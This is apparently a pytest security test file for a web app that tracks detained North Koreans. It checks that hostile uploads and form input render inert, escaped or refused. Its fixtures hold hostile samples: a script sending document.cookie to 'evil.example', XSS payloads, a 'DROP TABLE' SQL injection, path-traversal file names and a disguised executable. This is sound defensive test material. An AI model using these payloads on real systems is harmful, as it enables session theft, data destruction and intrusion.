"""Hostile input through the web: HTML reports with scripts, event handlers and javascript: links
are inert; upload names cannot traverse paths; XSS and SQL-injection payloads in every text field
a user types are stored as typed and shown as text."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import lxml.html
import pytest
from fastapi.testclient import TestClient
from markupsafe import escape

from refugewatch.config import Settings
from refugewatch.model.claims import ClaimKind
from refugewatch.security.passwords import Role
from refugewatch.services import queries
from refugewatch.store.sql import dispose_engines, migrate, uow_factory
from refugewatch.web.csrf import CSRF_FIELD
from tests.integration.web_support import (
    add_role_users,
    form_token,
    signed_in,
    web_app,
    with_data_key,
)

HOSTILE_HTML = b"""<!doctype html>
<html><head><title>Nine detained in Dandong <script>alert('t')</script></title>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<style>body{display:none}</style></head>
<body onload="alert('load')">
<p>Chinese police detained nine North Koreans in Dandong on 3 May 2021.
<img src=x onerror="alert('img')"> <a href="javascript:alert('link')">read more</a>
<iframe src="https://evil.example/"></iframe>
<svg onload="alert('svg')"></svg></p>
</body></html>
"""
XSS = "<script>alert('x')</script><img src=x onerror=alert(1)>"
SQLI = "x'); DROP TABLE documents; --"
# Elements that would run code or load something if they reached a page as markup.
ACTIVE_TAGS = frozenset({"script", "iframe", "svg", "img", "style", "object", "embed"})


@pytest.fixture
def settings(database_url: str, tmp_path: Path) -> Iterator[Settings]:
    migrate(database_url)
    add_role_users(uow_factory(database_url))
    passphrase = with_data_key(uow_factory(database_url), tmp_path)
    yield Settings(database_url=database_url, passphrase_file=passphrase, max_file_bytes=64_000)
    dispose_engines()


@pytest.fixture
def client(settings: Settings) -> TestClient:
    return signed_in(web_app(settings), Role.ADMIN)


def upload(client: TestClient, name: str, body: bytes) -> str:
    token = form_token(client, "/upload")
    response = client.post("/upload", data={CSRF_FIELD: token}, files=[("files", (name, body))])
    assert response.status_code == 200
    return response.text


def assert_inert(page: str) -> None:
    """Parsed as a browser would: no active element, no event handler, no javascript: URL."""
    tree = lxml.html.fromstring(page)
    for element in tree.iter():
        if not isinstance(element.tag, str):
            continue
        assert element.tag not in ACTIVE_TAGS, lxml.html.tostring(element)[:200]
        for name, value in element.attrib.items():
            assert not name.lower().startswith("on"), (element.tag, name)
            assert not value.strip().lower().startswith("javascript:"), (element.tag, value)


def test_hostile_html_is_rendered_inert_on_every_page(
    client: TestClient, settings: Settings
) -> None:
    result = upload(client, "dandong.html", HOSTILE_HTML)
    assert "outcome-ingested" in result
    assert_inert(result)
    (document,) = queries.list_documents(uow_factory(settings.database_url))
    pages = ["/", "/documents", "/cases", f"/documents/{document.sha256}"]
    pages += [f"/cases/{c.id}" for c in queries.list_cases(uow_factory(settings.database_url))]
    assert len(pages) > 4, "the report gives a case"
    for path in pages:
        assert_inert(client.get(path).text)
    text = client.get(f"/documents/{document.sha256}").text
    assert "document.cookie" not in text, "script content is dropped, not shown"


@pytest.mark.parametrize(
    ("name", "stored"),
    [
        ("../../../etc/passwd.txt", "passwd.txt"),
        ("..\\..\\windows\\report.txt", "report.txt"),
        ("/abs/path/report.txt", "report.txt"),
        (f"{SQLI}.txt", f"{SQLI}.txt"),
    ],
    ids=["dotdot", "backslash", "absolute", "sql-in-name"],
)
def test_upload_names_keep_only_the_base_name(
    client: TestClient, settings: Settings, name: str, stored: str
) -> None:
    body = f"title: Held in Yanji\n\nPolice detained two North Koreans in Yanji ({name}).\n"
    page = upload(client, name, body.encode())
    assert str(escape(stored)) in page
    assert "../" not in page and "..\\" not in page
    documents = queries.list_documents(uow_factory(settings.database_url))
    assert [d.filename for d in documents] == [stored]


def test_uploads_are_type_checked_and_size_limited(client: TestClient) -> None:
    refused = upload(client, "payload.html.exe", b"MZ\x90\x00")
    assert "outcome-refused" in refused
    disguised = upload(client, "report.pdf", b"<html><script>alert(1)</script></html>")
    assert "outcome-refused" in disguised
    token = form_token(client, "/upload")
    big = client.post(
        "/upload", data={CSRF_FIELD: token}, files=[("files", ("big.txt", b"x" * 300_000))]
    )
    assert big.status_code == 413


def test_xss_and_sql_in_edits_and_reasons_are_stored_and_shown_as_text(
    client: TestClient, settings: Settings
) -> None:
    report = b"title: Five held\npublished: 2021-05-05\n\nChinese police detained five North Koreans in Yanji on May 3, 2021.\n"
    upload(client, "yanji.txt", report)
    case = queries.list_cases(uow_factory(settings.database_url))[0]
    claims = queries.get_case(uow_factory(settings.database_url), case.id).claims
    claim = next(c for c in claims if c.kind is ClaimKind.APPREHENSION)
    token = form_token(client, f"/cases/{case.id}")
    data = {
        CSRF_FIELD: token,
        "decision": "edit",
        "reason": f"{XSS} {SQLI}",
        "value.custodian": f"{XSS} {SQLI}",
    }
    response = client.post(f"/cases/{case.id}/claims/{claim.id}/review", data=data)
    assert response.status_code == 200, response.text[:300]
    with uow_factory(settings.database_url)() as uow:
        stored = uow.claims.get(claim.id)
        assert uow.documents.count() == 1, "the documents table is still there"
    assert stored is not None and stored.effective_values["custodian"] == f"{XSS} {SQLI}"
    page = response.text
    assert_inert(page)
    assert str(escape(f"{XSS} {SQLI}")) in page


def test_a_viewer_sees_no_sealed_text(client: TestClient, settings: Settings) -> None:
    fields = {
        "relation": "relative",
        "reliability": "B2",
        "group_size": "3",
        "status": "detained",
        "last_contact": "2024-03-20",
        "statement": "A secret account with the flat's address.",
        "consent": "none",
    }
    token = form_token(client, "/contact-reports/new")
    response = client.post(
        "/contact-reports", data={CSRF_FIELD: token, **fields}, follow_redirects=False
    )
    assert response.status_code == 303
    location = response.headers["location"]
    assert "the flat&#39;s address" in client.get(location).text
    viewer = signed_in(web_app(settings), Role.VIEWER)
    assert "the flat" not in viewer.get(location).text
    sha = location.removeprefix("/documents/")
    assert "the flat" not in viewer.get(f"/api/documents/{sha}").text


@pytest.mark.parametrize(
    "markup",
    ['<p onclick="x()">a</p>', "<script>x()</script>", '<a href=" JavaScript:x()">a</a>'],
    ids=["handler", "script", "javascript-url"],
)
def test_the_inertness_check_catches_live_markup(markup: str) -> None:
    with pytest.raises(AssertionError):
        assert_inert(f"<html><body>{markup}</body></html>")
